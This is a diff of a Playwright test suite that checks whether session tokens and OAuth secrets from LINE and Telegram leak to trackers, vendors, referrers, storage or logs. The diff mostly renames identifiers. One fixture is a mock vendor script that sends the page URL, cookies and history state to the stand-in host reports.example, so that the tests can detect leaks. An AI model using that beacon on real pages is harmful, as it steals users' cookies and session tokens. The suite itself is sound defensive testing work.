@@ -2,20 +2,20 @@ import type { Page, Request } from "@playwright/test";
 import { ports } from "./ports.ts";
 import { askConsole, type Brand, expect, home, logIn, newName, open, test } from "./support.ts";
 
-/** Something that was said, and where: `https://x.example/tr header referer`. */
-interface Saying {
+/** A recorded text with its source: `https://x.example/tr header referer`. */
+interface Recording {
   readonly where: string;
   readonly text: string;
 }
 
 const isOutside = (url: URL) => !url.hostname.endsWith("localhost") && url.hostname !== "127.0.0.1";
 
-/** What a vendor's script or page tells home about the page that it is on. */
+/** What a vendor's script or page reports about its page. */
 const report = `new Image().src = "https://reports.example/seen?" + new URLSearchParams({
   href: location.href, referrer: document.referrer, cookie: document.cookie, name: window.name,
   state: JSON.stringify(history.state), queue: JSON.stringify(window.fbq && window.fbq.queue) });`;
 
-/** Lets outside origins answer, with scripts and pages that report what they see. */
+/** Mocks external origins, with scripts and pages that report what they see. */
 const answerOutside = (page: Page) =>
   page.route(isOutside, (route) => {
     const type = route.request().resourceType();
@@ -28,35 +28,35 @@ const answerOutside = (page: Page) =>
     return route.fulfill({ status: 204, headers: { "Access-Control-Allow-Origin": "*" } });
   });
 
-/** Listens to all that leaves a page from now on: requests with their headers and bodies, and the browser's console. */
+/** Records all that leaves a page from now on: requests with their headers and bodies, and the browser's console. */
 function listen(page: Page) {
-  const sayings: Saying[] = [];
+  const recordings: Recording[] = [];
   const reading: Promise<void>[] = [];
-  const hear = async (request: Request) => {
+  const record = async (request: Request) => {
     const url = new URL(request.url());
-    const place = url.origin + url.pathname;
-    // The address that brought the secret is where it came from.
+    const endpoint = url.origin + url.pathname;
+    // The address that contained the secret is its origin.
     if (!request.isNavigationRequest() || request.frame() !== page.mainFrame()) {
-      sayings.push({ where: `${place} url`, text: request.url() });
+      recordings.push({ where: `${endpoint} url`, text: request.url() });
     }
-    sayings.push({ where: `${place} body`, text: request.postData() ?? "" });
+    recordings.push({ where: `${endpoint} body`, text: request.postData() ?? "" });
     const headers = await request.allHeaders().catch(() => request.headers());
     for (const [name, text] of Object.entries(headers)) {
-      if (!name.startsWith(":")) sayings.push({ where: `${place} header ${name}`, text });
+      if (!name.startsWith(":")) recordings.push({ where: `${endpoint} header ${name}`, text });
     }
   };
-  page.on("request", (request) => reading.push(hear(request)));
-  page.on("console", (message) => sayings.push({ where: "console", text: message.text() }));
+  page.on("request", (request) => reading.push(record(request)));
+  page.on("console", (message) => recordings.push({ where: "console", text: message.text() }));
   return {
-    sayings,
+    recordings,
     async settled() {
       await Promise.all(reading);
     },
   };
 }
 
-/** What stays behind: address bar, history, storage, cookies, and what the gateway's log and events hold. */
-async function remains(page: Page, brand: Brand, since: string): Promise<readonly Saying[]> {
+/** What remains: address bar, history, storage, cookies, and the gateway's log and events. */
+async function remains(page: Page, brand: Brand, since: string): Promise<readonly Recording[]> {
   const devtools = await page.context().newCDPSession(page);
   const { entries } = await devtools.send("Page.getNavigationHistory");
   const kept = await page.evaluate(() => ({
@@ -85,10 +85,10 @@ async function remains(page: Page, brand: Brand, since: string): Promise<readonl
   ];
 }
 
-/** Where a secret stands; once in its own form and once as an address or JSON would write it. */
-const placesOf = (secret: string, sayings: readonly Saying[]) => [
+/** Finds a secret in recorded texts, also URL- or JSON-encoded. */
+const locationsOf = (secret: string, recordings: readonly Recording[]) => [
   ...new Set(
-    sayings
+    recordings
       .filter(({ text }) =>
         [secret, encodeURIComponent(secret), JSON.stringify(secret).slice(1, -1)].some((form) => text.includes(form)),
       )
@@ -98,15 +98,15 @@ const placesOf = (secret: string, sayings: readonly Saying[]) => [
 
 const own = (brand: Brand) => `http://${brand}.localhost:${ports.site}`;
 
-/** Where a session's token belongs. */
-const isTokensPlace = (brand: Brand) => (where: string) =>
+/** Where a session's token may be. */
+const isTokenLocation = (brand: Brand) => (where: string) =>
   where === "sessionStorage MC_SESSION_INFO" ||
   (where.startsWith(`${own(brand)}/wps/`) && where.endsWith(" header authorization")) ||
   (where.startsWith("gateway /wps/") && where.endsWith(" header authorization"));
 
 /**
- * The page's own files are asked for before any script can clean the address: the server that was asked for the page
- * reads the address once more.
+ * The page's own files are requested before any script can clean the address: the server that served the page receives
+ * the address once more.
  */
 const isOwnFile = (brand: Brand) => (where: string) =>
   where.startsWith(`${own(brand)}/m/`) && where.endsWith(" header referer");
@@ -114,7 +114,7 @@ const isOwnFile = (brand: Brand) => (where: string) =>
 const storedToken = (page: Page) =>
   page.evaluate((): string => JSON.parse(sessionStorage.getItem("MC_SESSION_INFO") ?? "{}").token ?? "");
 
-/** Asks for consent, in this page alone: journeys run beside it. */
+/** Requires consent, for this page only: other tests run at the same time. */
 const askForConsent = (page: Page) =>
   page.route("**/wps/system/consent", async (route) => {
     const url = new URL(route.request().url());
@@ -144,19 +144,19 @@ test("a token in the address reaches no tracker, no vendor, no game, no referrer
   await elsewhere.close();
 
   const since = new Date().toISOString();
-  const heard = listen(site);
+  const recorder = listen(site);
   await answerOutside(site);
   await askForConsent(site);
   const pixel = site.waitForRequest("https://connect.facebook.net/**");
-  const told = site.waitForRequest((request) => request.url().includes("eventTracking"));
+  const delivered = site.waitForRequest((request) => request.url().includes("eventTracking"));
   await open(site, home("manila", `/m/member/home?token=${token}&fbclid=abc&from=app`));
   await accept(site);
-  await Promise.all([pixel, told, site.waitForRequest("https://reports.example/**")]);
+  await Promise.all([pixel, delivered, site.waitForRequest("https://reports.example/**")]);
   await expect(site).toHaveURL(/\/m\/member\/home\?fbclid=abc&from=app$/);
   expect(await storedToken(site)).toBe(token);
 
-  // Around the site: a vendor's chat, a game on an origin of its own, a error that is reported.
-  const reports = () => heard.sayings.filter(({ where }) => where === "https://reports.example/seen url").length;
+  // Around the site: a vendor's chat, a game on its own origin, an error that is reported.
+  const reports = () => recorder.recordings.filter(({ where }) => where === "https://reports.example/seen url").length;
   const before = reports();
   await site.getByRole("main").getByRole("button", { name: "Customer service" }).click();
   await expect.poll(reports).toBeGreaterThan(before);
@@ -174,14 +174,14 @@ test("a token in the address reaches no tracker, no vendor, no game, no referrer
   await site.evaluate(() => void setTimeout(() => Promise.reject(new Error(location.href))));
   await reported;
 
-  await heard.settled();
-  const everything = [...heard.sayings, ...(await remains(site, "manila", since))];
+  await recorder.settled();
+  const everything = [...recorder.recordings, ...(await remains(site, "manila", since))];
   expect(everything.filter(({ where }) => where === "event").length).toBeGreaterThan(0);
-  const places = placesOf(token, everything);
-  expect(places.some(isTokensPlace("manila"))).toBe(true);
-  expect(places.filter((where) => !isTokensPlace("manila")(where) && !isOwnFile("manila")(where))).toEqual([]);
+  const locations = locationsOf(token, everything);
+  expect(locations.some(isTokenLocation("manila"))).toBe(true);
+  expect(locations.filter((where) => !isTokenLocation("manila")(where) && !isOwnFile("manila")(where))).toEqual([]);
 
-  // This listens well: a leak of every kind is heard.
+  // A check of the recorder: a leak of every kind is recorded.
   await site.evaluate((secret) => {
     console.info(secret);
     localStorage.setItem("leak", secret);
@@ -194,21 +194,21 @@ test("a token in the address reaches no tracker, no vendor, no game, no referrer
     );
   }, token);
   const leaks = async () => {
-    await heard.settled();
-    return placesOf(token, [...heard.sayings, ...(await remains(site, "manila", since))]);
+    await recorder.settled();
+    return locationsOf(token, [...recorder.recordings, ...(await remains(site, "manila", since))]);
   };
   const expected = ["console", "localStorage leak", "address", "history", "event", "https://reports.example/image url"];
   await expect.poll(leaks).toEqual(expect.arrayContaining(expected));
 });
 
-test("LINE's code and state are spent by the gateway's one call, and stand nowhere else", async ({ site }) => {
+test("LINE's code and state are used in the gateway's one call, and appear nowhere else", async ({ site }) => {
   await answerOutside(site);
   await open(site, home("lotus", "/m/login"));
   await site.getByRole("button", { name: "Continue with LINE" }).click();
   await site.getByLabel("Somebody else").fill(newName());
 
   const since = new Date().toISOString();
-  const heard = listen(site);
+  const recorder = listen(site);
   const back = site.waitForRequest((request) => request.isNavigationRequest() && /[?&]code=/.test(request.url()));
   const exchanged = site.waitForResponse((response) => response.url().includes("WPS3RD_verifyLineCode"));
   await site.getByRole("button", { name: "Allow", exact: true }).click();
@@ -220,27 +220,27 @@ test("LINE's code and state are spent by the gateway's one call, and stand nowhe
   await expect(site).toHaveURL(/\/m\/home$/);
   const token = await storedToken(site);
 
-  await heard.settled();
+  await recorder.settled();
   const vendor = "access.line.me";
-  const everything = [...heard.sayings, ...(await remains(site, "lotus", since))].filter(
-    // LINE made the code, and was told the state; its page lies behind in the history.
+  const everything = [...recorder.recordings, ...(await remains(site, "lotus", since))].filter(
+    // LINE issued the code, and received the state; its page is in the history.
     ({ where, text }) => !where.includes(vendor) && !(where === "history" && new URL(text).host.includes(vendor)),
   );
   const spent = (path: string) => [`${own("lotus")}${path} body`, `gateway ${path} log`];
   const stray = (secret: string | null, ...allowed: readonly string[]) =>
-    placesOf(secret ?? "", everything).filter((where) => !allowed.includes(where) && !isOwnFile("lotus")(where));
+    locationsOf(secret ?? "", everything).filter((where) => !allowed.includes(where) && !isOwnFile("lotus")(where));
   expect(stray(returned.get("code"), ...spent("/wps/relay/WPS3RD_verifyLineCode"))).toEqual([]);
   expect(stray(returned.get("state"))).toEqual([]);
   expect(stray(lineSessionToken, ...spent("/wps/session/login/line"), ...spent("/wps/session/login"))).toEqual([]);
-  expect(placesOf(token, everything).filter((where) => !isTokensPlace("lotus")(where))).toEqual([]);
-  expect(placesOf(returned.get("code") ?? "", everything)).toEqual(
+  expect(locationsOf(token, everything).filter((where) => !isTokenLocation("lotus")(where))).toEqual([]);
+  expect(locationsOf(returned.get("code") ?? "", everything)).toEqual(
     expect.arrayContaining(spent("/wps/relay/WPS3RD_verifyLineCode")),
   );
 });
 
-test("Telegram's answer is spent by the gateway's one call, and stands nowhere else", async ({ site }) => {
+test("Telegram's answer is used in the gateway's one call, and appears nowhere else", async ({ site }) => {
   await answerOutside(site);
-  // The address at the moment of the call, before the log-in leads elsewhere: it stands among what is looked through.
+  // The address at the moment of the call, before the log-in redirects: it is among the recorded texts.
   await site.addInitScript(() => {
     const { fetch } = window;
     window.fetch = (address, options) => {
@@ -253,7 +253,7 @@ test("Telegram's answer is spent by the gateway's one call, and stands nowhere e
   await site.getByLabel("Somebody else").fill(newName());
 
   const since = new Date().toISOString();
-  const heard = listen(site);
+  const recorder = listen(site);
   const arrived = site.waitForRequest((request) => request.url().endsWith("/wps/session/login/telegram"));
   await site.getByRole("button", { name: "Accept", exact: true }).click();
   const { telegramAuth } = (await arrived).postDataJSON();
@@ -261,14 +261,14 @@ test("Telegram's answer is spent by the gateway's one call, and stands nowhere e
   await expect(site).toHaveURL(/\/m\/home$/);
   const token = await storedToken(site);
 
-  await heard.settled();
-  const everything = [...heard.sayings, ...(await remains(site, "noor", since))].filter(
+  await recorder.settled();
+  const everything = [...recorder.recordings, ...(await remains(site, "noor", since))].filter(
     ({ where, text }) => !where.includes("telegram.org") && !(where === "history" && text.includes("telegram.org")),
   );
   const path = "/wps/session/login/telegram";
   const spent = [`${own("noor")}${path} body`, `gateway ${path} log`];
-  expect(placesOf(telegramAuth.hash, everything).sort()).toEqual(spent.sort());
+  expect(locationsOf(telegramAuth.hash, everything).sort()).toEqual(spent.sort());
   expect(everything).toContainEqual({ where: "sessionStorage address then", text: home("noor", "/m/login") });
-  expect(placesOf("tgAuthResult", everything)).toEqual([]);
-  expect(placesOf(token, everything).filter((where) => !isTokensPlace("noor")(where))).toEqual([]);
+  expect(locationsOf("tgAuthResult", everything)).toEqual([]);
+  expect(locationsOf(token, everything).filter((where) => !isTokenLocation("noor")(where))).toEqual([]);
 });
